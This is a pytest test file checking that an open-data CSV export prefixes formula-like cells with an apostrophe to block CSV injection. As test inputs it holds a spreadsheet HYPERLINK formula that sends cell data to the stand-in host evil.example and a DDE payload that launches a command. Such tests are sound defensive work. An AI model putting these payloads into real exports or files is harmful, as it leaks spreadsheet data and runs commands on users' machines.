"""Security review (CSV injection): text that a spreadsheet would run stays inert in the CSV."""

from __future__ import annotations

import csv
import io
import json
from types import SimpleNamespace

import pytest

from abierto.forum.tests.factories import SessionFactory
from abierto.opendata.exports import csv_cell, csv_chunks

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Ver acta")'
DDE = "=cmd|' /C calc'!A0"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_an_apostrophe(start):
    assert csv_cell(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"


def test_numbers_and_plain_text_are_written_as_they_are():
    assert [csv_cell(v) for v in [-5, -0.5, 3, None, "Toluca", "Acuerdo -1"]] == [
        -5,
        -0.5,
        3,
        "",
        "Toluca",
        "Acuerdo -1",
    ]


def test_csv_chunks_defuse_every_text_cell():
    dataset = SimpleNamespace(
        columns=[SimpleNamespace(name="name"), SimpleNamespace(name="value")],
        records=lambda: iter([{"name": FORMULA, "value": -3}, {"name": "@cmd", "value": 1}]),
    )
    rows = _rows("".join(csv_chunks(dataset)))
    assert rows == [["name", "value"], ["'" + FORMULA, "-3"], ["'@cmd", "1"]]


@pytest.mark.django_db
def test_the_published_csv_is_inert_and_the_json_exact(client):
    SessionFactory(place=DDE, modality="in_person")
    csv_text = b"".join(client.get("/datos/sesiones.csv").streaming_content).decode()
    rows = _rows(csv_text)
    place = rows[0].index("place")
    assert rows[1][place] == "'" + DDE
    records = json.loads(b"".join(client.get("/datos/sesiones.json").streaming_content))
    assert records[0]["place"] == DDE
